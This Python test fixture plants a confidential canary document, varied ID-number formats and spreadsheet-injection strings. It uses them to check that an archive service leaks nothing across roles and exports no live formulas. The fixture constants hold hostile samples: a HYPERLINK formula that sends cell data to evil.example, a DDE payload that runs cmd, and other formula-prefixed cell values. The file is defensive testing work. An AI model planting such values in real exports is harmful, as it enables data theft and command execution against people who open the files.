"""A small archive planted with everything the security properties look for.

- a confidential "canary" document of 采购部 (and a destruction request and a loan naming
  it): its id, title, file name and archive number must reach nobody it is hidden from;
- ID numbers in every form (a misread one, spaced, full-width, 15 digits) in titles, page
  text, fields, problems and a partner's remarks: their birth dates must reach nobody who
  sees numbers masked;
- text typed as formulas in partner fields and titles: no export may carry a live formula.

Users are made for every role the service knows (`archive.permissions.ROLES`), so a role
added later is crawled too. Routes are read from the app, so are routes added later.
"""

from __future__ import annotations

import re
import unicodedata
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fastapi.routing import iter_route_contexts

from archive.auth import mint_token
from archive.permissions import ROLES, UNMASKED_ROLES, User, can_view_document
from archive.settings import Settings

CANARY_TITLE = "金丝雀绝密协议"
CANARY_FILE = "canary-jinsique.pdf"
CANARY_TEXT = "金丝雀条款：本协议仅限公司领导查阅，任何人不得外传。"

MISREAD = "350102198506123012"
SPACED = "110101 19900307 1234"
FULL_WIDTH = "４４０３０５１９９２０２２９００１５"
OLD_STYLE = "320106670923451"
BIRTH_DATES = ("19850612", "19900307", "19920229", "670923")

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看明细")'
HOSTILE_PARTNER = {
    "legal_representative": "+SUM(1,2)",
    "contact_person": "-2+3",
    "cooperation": "@SUM(A1:A9)",
    "remarks": f"\t=1+1 法人身份证 {SPACED}",
}
FORMULA_TITLE = "=cmd|' /C calc'!A0"

UNKNOWN_ID = uuid.uuid4().hex  # an id nothing has: a hidden one must look exactly like it


def shows_a_birth_date(text: str) -> list[str]:
    """Birth dates of the planted numbers readable in `text` (any width, spacing or markup)."""
    flat = re.sub(r"\s|</?em>", "", unicodedata.normalize("NFKC", text))
    return [birth for birth in BIRTH_DATES if birth in flat]


@dataclass(frozen=True)
class PlantedDocument:
    id: str
    title: str
    archive_no: str
    filename: str
    confidentiality: str
    department: str


@dataclass(frozen=True)
class Person:
    sub: str
    roles: tuple[str, ...]
    departments: tuple[str, ...]
    clearance: str
    token: str

    @property
    def user(self) -> User:
        return User(sub=self.sub, roles=frozenset(self.roles), departments=frozenset(self.departments),
                    clearance=self.clearance)

    @property
    def sees_numbers(self) -> bool:
        return bool(set(self.roles) & UNMASKED_ROLES)

    @property
    def headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}

    def may_open(self, document: PlantedDocument) -> bool:
        return can_view_document(self.user, document_id=document.id, confidentiality=document.confidentiality,
                                 department=document.department)


def person(settings: Settings, sub: str, roles: tuple[str, ...], departments: tuple[str, ...],
           clearance: str) -> Person:
    token = mint_token(settings, sub=sub, roles=list(roles), departments=list(departments), clearance=clearance)
    return Person(sub, roles, departments, clearance, token)


def crawled_people(settings: Settings) -> list[Person]:
    """One person per role, of 采购部 at clearance 一般 (the canary is above every one of them),
    and a buyer of another department."""
    people = [person(settings, f"{role}.caigou", (role,), ("采购部",), "internal") for role in ROLES]
    people.append(person(settings, "staff.xiaoshou", ("staff",), ("销售部",), "internal"))
    return people


@dataclass
class World:
    settings: Settings
    documents: dict[str, PlantedDocument] = field(default_factory=dict)
    partners: dict[str, dict[str, Any]] = field(default_factory=dict)
    ids: dict[str, list[str]] = field(default_factory=dict)
    """Values for path parameters, by parameter name."""
    people: list[Person] = field(default_factory=list)
    typed: list[str] = field(default_factory=list)
    """Every URL the crawl asked for: what people typed, which the audit log keeps."""

    @property
    def canary(self) -> PlantedDocument:
        return self.documents["canary"]

    def leaks(self, reader: Person, body: str, *, asked: str) -> list[str]:
        """What of documents `reader` may not open shows in `body` (beyond what they asked for)."""
        found = []
        for document in self.documents.values():
            if reader.may_open(document):
                continue
            for value in (document.id, document.title, document.filename, document.archive_no):
                if value in body and value not in asked:
                    found.append(f"{value} (of {document.title})")
        return found


def body_routes(app: Any) -> list[tuple[str, str]]:
    """(method, path) of every route that takes a request body, as the app has them."""
    routes = []
    for context in iter_route_contexts(app.routes):
        methods = getattr(context, "methods", None) or set()
        path = getattr(context, "path", None)
        if path is None or getattr(context, "dependant", None) is None:
            continue
        routes += [(method, path) for method in sorted(methods) if method in ("POST", "PUT", "PATCH", "DELETE")]
    return routes


def page_routes(app: Any) -> list[str]:
    """Paths of the web pages (GET, outside the API, not sign-in or documentation)."""
    skip = ("/api/", "/static", "/openapi", "/docs", "/redoc", "/login", "/auth/", "/logout")
    paths = []
    for context in iter_route_contexts(app.routes):
        path = getattr(context, "path", None)
        if path and "GET" in (getattr(context, "methods", None) or ()) and not path.startswith(skip):
            paths.append(path)
    return paths


def fill(path: str, values: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: values.get(m.group(1), "x"), path)


def path_params(path: str) -> list[str]:
    return re.findall(r"\{(\w+)(?::\w+)?\}", path)


def write_text_pdf(path: Path, text: str) -> Path:
    from tests.samples import text_pdf

    return text_pdf(path, [text])
